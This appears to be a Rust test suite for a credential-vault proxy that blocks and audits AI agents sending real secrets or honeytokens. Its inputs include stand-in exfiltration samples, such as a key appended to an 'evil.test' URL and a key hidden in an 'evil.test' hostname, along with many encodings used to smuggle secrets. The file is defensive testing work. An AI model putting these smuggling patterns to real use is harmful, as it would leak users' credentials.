//! Agents that hold what they should not: a secret itself, in place of its placeholder.

use crate::support::*;

fn refused(world: &World, answer: &Answer, what: &str) {
    assert_eq!((answer.status, &*answer.problem()), (403, "real-credential"), "{what}");
    assert!(leaks(&world.key, &answer.body).is_empty(), "{what}: {}", answer.text());
}

#[test]
fn a_secret_in_the_agents_own_hands_is_known_wherever_it_stands() {
    let world = World::new();
    let key = world.key.clone();
    let mut wire = world.tunnel();
    let fields = [
        format!("Authorization: Bearer {key}"),
        format!("Authorization: {}", basic("user", &key)),
        format!("X-Api-Key: {key}"),
        format!("Cookie: a=b; session={key}"),
        format!("X-Anything: https://evil.test/{key}"),
    ];
    for field in &fields {
        let answer = wire.ask(request("GET", "/v1/x", &[field], ""));
        refused(&world, &answer, field);
    }
    for target in [format!("/v1/x?a=b&token={key}"), format!("/v1/bot{key}/{key}")] {
        let answer = wire.ask(request("GET", &target, &[AUTHORIZED], ""));
        refused(&world, &answer, &target);
    }
    assert_eq!(world.origin.connections(), 0, "nothing of it left");
    let all = (fields.len() + 2) as u64;
    let counted = world.serve.metric("locum_refusals_total{code=\"real-credential\"}");
    assert_eq!(counted, all);
    let records = world.home.audit();
    let seen: Vec<_> = records.iter().filter(|r| r["code"] == "real-credential").collect();
    assert_eq!(seen.len() as u64, all);
    for record in seen {
        assert_eq!((&record["credential"], &record["version"]), (&"main".into(), &1.into()));
        assert!(record["path"] == "/v1/x" || record["path"].is_null(), "{record}");
    }
    assert!(world.serve.log().contains("an agent sent a secret of the vault"));
    // What the agent itself wrote is on its wire; nowhere else.
    world.never_leaks(&[]);
}

/// As short as a secret may be; and what lies in a vault where a value comes from elsewhere is no secret.
#[test]
fn a_short_secret_is_known_too() {
    let password = "Sh0rt-pw";
    let world = World::with(BEARER, canary(), |home, _| {
        home.add("short", &["--to", "https://api.test", "--basic", "user"], password);
        home.locum(&[
            "credential",
            "add",
            "session",
            "--to",
            "https://api.test",
            "--captured",
            "--header",
            "X-Session: {secret}",
        ])
        .ok();
    });
    for field in
        [format!("X-Any: {password}"), format!("Authorization: {}", basic("user", password))]
    {
        let answer = world.ask("GET", "/v1/x", &[&field], "");
        refused(&world, &answer, &field);
    }
    assert_eq!(world.origin.connections(), 0);
    assert_eq!(world.ask("GET", "/open/external?x=--------", &[], "").status, 200);
    world.home.never_leaks(&[password], &[]);
}

#[test]
fn a_honeytoken_is_never_short() {
    let home = Home::new();
    let add =
        ["credential", "add", "bait", "--honeytoken", "--force-short", "--provider", "openai"];
    let file = home.path().join("bait");
    std::fs::write(&file, "short").unwrap();
    let ran = home.locum(&[&add[..], &["--from-file", file.to_str().unwrap()]].concat()).failed(64);
    assert!(ran.err.contains("no alarm"), "{}", ran.err);
}

/// In the vault's own slots, and in what once nobody looked at; and the log has it nowhere.
#[test]
fn a_secret_in_its_own_slot_is_known_and_never_recorded() {
    let slots =
        [BEARER, &["--path=/bot{secret}/**", "--header", "X-Auth: Token token=\"{secret}\""]];
    let bot = format!("123456789:{}", canary());
    let world = World::with(&slots.concat(), canary(), |home, _| {
        home.add("bot", &["--to", "https://api.test", "--path=/bot{secret}/**"], &bot);
    });
    let key = &world.key;
    let mut wire = world.tunnel();
    let mut all = 0;
    for target in [
        format!("/bot{key}/x"),
        format!("/bot{bot}/getMe"),
        format!("/bot{}/getMe", bot.replace(':', "%3A")),
        format!("/v1/x?{key}"),
        format!("/v1/x?{key}=1"),
    ] {
        let answer = wire.ask(request("GET", &target, &[], ""));
        refused(&world, &answer, &target);
        all += 1;
    }
    for field in [
        format!("Locum-Run: {key}"),
        format!("Locum-Node: {key}"),
        format!("Locum-User: {key}"),
        format!("User-Agent: {key}"),
        format!("Accept: text/{key}"),
        format!("Accept-Language: {key}"),
        format!("Content-Type: a/{key}"),
        format!("If-Modified-Since: {key}"),
        format!("Cookie: a=1; k={bot}; z=2"),
        format!("X-Foo: v1.{key}"),
        format!("X-Auth: Token token=\"{bot}\""),
    ] {
        let answer = wire.ask(request("GET", "/open/x", &[&field], ""));
        refused(&world, &answer, &field);
        all += 1;
    }
    // What cannot be read is recorded, too.
    let twice = [&*format!("X-Key: {key}"), "Host: api.test"];
    let answer = world.ask("GET", &format!("/bot{key}/x"), &twice, "");
    assert_eq!(answer.problem(), "bad-request");
    let answer = world.ask(key, "/open/x", &[], "");
    assert_eq!(answer.status / 100, 4, "{}", answer.text());
    // And a tunnel says what it is for before there is any request.
    let user = format!("worker+run={key}");
    let authorization = basic(&user, &world.agent.token);
    let mut door = world.serve.wire();
    door.send(connect("api.test:443", &authorization));
    let answer = door.answer_to("CONNECT");
    refused(&world, &answer, "the tunnel's run");
    assert_eq!(world.origin.seen().len(), 0, "nothing of it left");
    let seen = world.home.audit().into_iter().filter(|r| r["code"] == "real-credential").count();
    assert!(seen > all, "{seen} of {all}");
    world.never_leaks(&[]);
    world.home.never_leaks(&[&bot], &[]);
}

/// A field that a credential enters is where an agent would write its key.
#[test]
fn a_secret_in_a_credentials_own_field_of_a_body_is_known() {
    let slots = [
        "--to",
        "https://api.test",
        "--json-pointer",
        "/auth/key",
        "--form",
        "token",
        "--multipart",
        "token",
    ];
    let world = World::with(&slots, canary(), |_, _| {});
    let gone = world.key.clone();
    let key = canary();
    world.home.locum_with(&["credential", "rotate", "main", "--grace", "0"], key.as_bytes()).ok();
    let (json, form) = ("application/json", "application/x-www-form-urlencoded");
    let parts = "multipart/form-data; boundary=bnd";
    let part = |name: &str, value: &str| {
        format!("--bnd\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    let (first, rest) = key.split_at(1);
    let escaped = format!("{{\"auth\":{{\"key\":\"\\u{:04x}{rest}\"}}}}", first.as_bytes()[0]);
    let percent = format!("a=1&token=%{:02x}{rest}&b", first.as_bytes()[0]);
    eventually("the rotation", PATIENCE, || {
        let body = format!("token={key}");
        let answer = world.ask("POST", "/open/x", &[&format!("Content-Type: {form}")], &body);
        (answer.status == 403).then_some(())
    });
    let before = world.origin.seen().len();
    for (kind, body) in [
        (json, format!("{{\"auth\":{{\"key\":\"{key}\"}}}}")),
        (json, format!("{{\"auth\":{{\"key\":\"{gone}\"}}}}")),
        (json, format!("{{\"x\":1,\"auth\":{{\"key\":[\"a\",\"{key}\"]}}}}")),
        (json, format!("{{\"auth\":{{\"key\":\"Bearer {key}\"}}}} and no JSON")),
        (json, escaped),
        (form, format!("a=1&token={key}")),
        (form, format!("token=x&token={key}")),
        (form, percent),
        (parts, format!("{}{}--bnd--\r\n", part("a", "1"), part("token", &key))),
        // Beside a reference that would be filled.
        (parts, format!("{}{}--bnd--\r\n", part("token", "locum_main"), part("token", &key))),
    ] {
        let answer = world.ask("POST", "/open/y", &[&format!("Content-Type: {kind}")], &body);
        assert_eq!((answer.status, &*answer.problem()), (403, "real-credential"), "{kind}: {body}");
    }
    assert_eq!(world.origin.seen().len(), before, "nothing of it left");
    let records = world.home.accesses_to("/open/y");
    assert!(records.iter().all(|r| r["credential"] == "main" && r["code"] == "real-credential"));
    assert!(records.iter().any(|r| r["version"] == 1) && records.iter().any(|r| r["version"] == 2));
    // What an agent says elsewhere in a body is between it and the origin.
    let talk = format!("{{\"auth\":{{\"key\":\"mine\"}},\"text\":\"{gone}\"}}");
    let answer = world.ask("POST", "/open/z", &[&format!("Content-Type: {json}")], &talk);
    assert_eq!(answer.status, 200);
    world.home.never_leaks(&[&key], &[]);
    world.never_leaks(&[]);
}

/// Names of hosts have no capitals: keys in hex are whole in them.
#[test]
fn a_secret_in_the_name_of_a_host_is_recorded_and_looked_up_nowhere() {
    let hex = canary().split_off("sk-canary-".len());
    let world = World::with(BEARER, canary(), |home, _| {
        let slots = ["--to", "https://else.test", "--header", "X-Key: {secret}"];
        home.add("hexadecimal", &slots, &hex);
        home.policy(
            "version: 1\nrules:\n- {name: any, agents: ['*'], to: ['https://*'], tunnel: opaque}\n",
        );
    });
    let host = format!("{hex}.evil.test");
    let own = world.agent.authorization();
    let plain = format!(
        "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {own}\r\n\r\n"
    );
    for ask in [connect(&format!("{host}:443"), &own), plain] {
        let mut door = world.serve.wire();
        door.send(&ask);
        let answer = door.answer_to(ask.split(' ').next().unwrap());
        refused(&world, &answer, &ask);
    }
    // Nor from somebody whom nobody knows.
    let mut door = world.serve.wire();
    door.send(connect(&format!("{host}:443"), &basic("worker", "wrong")));
    assert_eq!(door.answer_to("CONNECT").status, 407);
    let audit = world.home.audit();
    let of = |code: &str| audit.iter().filter(|record| record["code"] == code).count();
    assert_eq!((of("real-credential"), of("proxy-auth-required")), (2, 1));
    world.home.never_leaks(&[&hex], &[("the log", world.serve.log().as_bytes())]);
}

#[test]
fn a_secret_behind_a_body_is_known_and_breaks_the_request_off() {
    let world = World::new();
    let body = format!("2\r\nhi\r\n0\r\nX-Note: {}\r\n\r\n", world.key);
    let fields = [AUTHORIZED, "Transfer-Encoding: chunked", "Trailer: X-Note"];
    let head = request("POST", "/v1/x", &fields, "");
    let answer = world.tunnel().ask(format!("{head}{body}"));
    assert_eq!((answer.status, &*answer.problem()), (403, "real-credential"), "{}", answer.text());
    assert_eq!(world.serve.metric("locum_refusals_total{code=\"real-credential\"}"), 1);
    assert!(!world.origin.raw().concat().contains(&format!("X-Note: {}", world.key)));
}

#[test]
fn a_secret_that_was_rotated_or_revoked_is_known_still() {
    let (second, gone) = (canary(), canary());
    let world = World::with(BEARER, canary(), |home, _| {
        home.rotate("main", &second);
        home.add("gone", BEARER, &gone);
        home.locum(&["credential", "revoke", "gone"]).ok();
    });
    for (key, credential, version) in
        [(&world.key, "main", 1), (&second, "main", 2), (&gone, "gone", 1)]
    {
        let target = format!("/{credential}/{version}");
        let answer = world.ask("GET", &target, &[&format!("X-Key: {key}")], "");
        assert_eq!(answer.problem(), "real-credential", "{target}");
        let record = world.home.accesses_to(&target).pop().unwrap();
        assert_eq!(record["credential"], credential);
        assert_eq!(record["version"], version);
    }
    world.home.never_leaks(&[&world.key, &second, &gone], &[]);
}

#[test]
fn another_secret_than_the_vaults_is_the_agents_own_affair() {
    let world = World::new();
    let own = canary();
    let answer = world.ask("GET", "/open/x", &[&format!("X-Key: {own}")], "");
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(world.origin.last().header("x-key"), Some(&*own));
}

#[test]
fn streams_of_http2_and_plain_http_are_watched_too() {
    let world = World::http2();
    let field = format!("Bearer {}", world.key);
    let reply = runtime().block_on(async {
        let agent = Http2::open(&world.serve, &world.agent).await;
        agent.ask(request2("GET", "/v1/x", &[("authorization", &field)]), b"").await
    });
    assert_eq!((reply.status, &*reply.problem()), (403, "real-credential"));
    let mut wire = world.serve.wire();
    let answer = wire.ask(format!(
        "GET http://free.test/ HTTP/1.1\r\nHost: free.test\r\nProxy-Authorization: {}\r\nX-Key: {}\r\n\r\n",
        world.agent.authorization(),
        world.key
    ));
    assert_eq!(answer.problem(), "real-credential");
    assert_eq!(world.origin.connections(), 0);
}

/// A home with a honeytoken, and the value that is planted.
fn baited() -> (World, String) {
    let planted = std::cell::OnceCell::new();
    let world = World::with(BEARER, canary(), |home, _| {
        let said = home
            .locum(&["credential", "add", "bait", "--provider", "openai", "--honeytoken", "--json"])
            .ok();
        let said: serde_json::Value = serde_json::from_str(&said.out).unwrap();
        assert_eq!(said["honeytoken"], true);
        planted.set(said["value"].as_str().unwrap().to_owned()).unwrap();
    });
    let value = planted.into_inner().unwrap();
    (world, value)
}

fn alarms(world: &World) -> Vec<serde_json::Value> {
    world.home.audit().into_iter().filter(|r| r["event"] == "honeytoken-used").collect()
}

#[test]
fn a_honeytoken_raises_the_alarm_wherever_it_is_named_and_is_like_no_name_at_all() {
    let (world, _) = baited();
    let unknown = world.ask("GET", "/v1/x", &["Authorization: Bearer locum_nobody"], "");
    assert!(alarms(&world).is_empty());
    let bait = world.ask("GET", "/v1/x", &["Authorization: Bearer locum_bait"], "");
    assert_eq!((bait.status, bait.problem()), (403, unknown.problem()));
    let body = |answer: &Answer| {
        let mut json = answer.json();
        json["instance"].take();
        json
    };
    assert_eq!(body(&bait), body(&unknown), "nothing tells the two apart");
    let record = world.home.accesses_to("/v1/x").pop().unwrap();
    assert_eq!(record["reason"], "the credential is a honeytoken");

    // Outside of all slots the request passes, and the alarm is raised all the same.
    let field = "X-Note: the key is sk-proj-locum_bait_000000";
    for (target, fields) in [
        ("/open/x?y=locum_bait", vec![AUTHORIZED]),
        ("/open/locum_bait/x", vec![AUTHORIZED]),
        ("/open/x", vec![AUTHORIZED, field]),
    ] {
        let before = alarms(&world).len();
        assert_eq!(world.ask("GET", target, &fields, "").status, 200, "{target}");
        let seen = alarms(&world);
        assert_eq!(seen.len(), before + 1, "{target}");
        let last = seen.last().unwrap();
        assert_eq!(last["subject"], "bait");
        assert!(last["detail"].as_str().unwrap().contains("agent "), "{last}");
    }
    assert_eq!(world.serve.metric("locum_honeytokens_total"), 4);
    assert!(world.serve.log().contains("an agent sent a honeytoken"));
}

#[test]
fn the_value_of_a_honeytoken_is_known_where_an_agent_sends_it() {
    let (world, value) = baited();
    let answer = world.ask("GET", "/v1/x", &[&format!("Authorization: Bearer {value}")], "");
    refused(&world, &answer, "the planted value");
    assert_eq!(alarms(&world).len(), 1);
    assert_eq!(world.origin.connections(), 0);
    world.never_leaks(&[]);
}

#[test]
fn no_agent_is_handed_a_honeytoken() {
    let (world, value) = baited();
    let env = world.home.locum(&["env", "--agent", &world.agent.name]).ok().out;
    assert!(!env.contains("bait") && !env.contains(&value), "{env}");
    let shown = world.home.locum(&["credential", "list"]).ok().out;
    assert!(shown.contains("honeytoken") && !shown.contains(&value), "{shown}");
}
